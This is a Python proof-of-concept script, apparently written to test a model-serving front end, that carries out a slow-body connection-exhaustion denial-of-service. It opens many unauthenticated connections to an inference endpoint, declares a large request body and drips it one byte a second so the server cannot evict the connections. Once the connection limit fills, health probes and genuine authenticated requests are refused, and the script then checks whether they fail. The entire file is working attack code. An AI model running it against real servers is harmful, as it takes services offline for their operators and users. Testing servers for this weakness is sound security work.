"""No credentials: hold connections in the body phase after the server has answered 401/429.

Each connection sends a complete request head declaring a large body (no Authorization), gets
its 401 (or 429) at once, and then drips the body one byte a second. The front end keeps such a
connection in its body phase (not idle, so not evictable) until body_timeout (30 s). Past
max_connections (4096) every new connection, health probes included, is refused.

Usage: body_hold.py HOST PORT N [seconds] [KEY for the victim request]
"""

import http.client
import os
import socket
import sys
import time
from pathlib import Path

HOST, PORT, N = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
SECONDS = float(sys.argv[4]) if len(sys.argv) > 4 else 8
VKEY = sys.argv[5] if len(sys.argv) > 5 else None
head = b"POST /v2/models/breast-cancer/infer HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n{"
socks = []
for i in range(N):
    try:
        s = socket.create_connection((HOST, PORT), timeout=5)
        s.sendall(head)
        socks.append(s)
    except OSError as e:
        print("connect", i, e)
        break
print(f"{len(socks)} connections holding a body", flush=True)
time.sleep(1)
bad = 0
t_end = time.monotonic() + SECONDS
body = Path(os.environ.get("REQUEST_JSON", "demo/request.json")).read_text()
while time.monotonic() < t_end:
    probes = [("/v2/health/live", None, {})]
    if VKEY:
        probes.append(("/v2/models/breast-cancer/infer", body, {"Authorization": f"Bearer {VKEY}"}))
    for path, b, h in probes:
        t0 = time.monotonic()
        try:
            c = http.client.HTTPConnection(HOST, PORT, timeout=3)
            c.request("GET" if b is None else "POST", path, body=b, headers=h)
            r = c.getresponse()
            d = r.read()
            st = r.status
        except Exception as e:
            st, d = 0, repr(e).encode()
        dt = time.monotonic() - t0
        ok = st == 200 and dt < 1
        bad += not ok
        print(
            path,
            st,
            f"{dt * 1000:.0f} ms",
            "OK" if ok else "FAIL " + d[:100].decode(errors="replace"),
            flush=True,
        )
    for s in socks:
        try:
            s.sendall(b" ")
        except OSError:
            pass
    time.sleep(1)
alive = 0
for s in socks:
    s.setblocking(False)
    try:
        while s.recv(65536):  # the answer (401/429) first, then EOF if closed
            pass
    except BlockingIOError:
        alive += 1
    except OSError:
        pass
print("attack connections still open:", alive)
for s in socks:
    s.close()
sys.exit(1 if bad else 0)
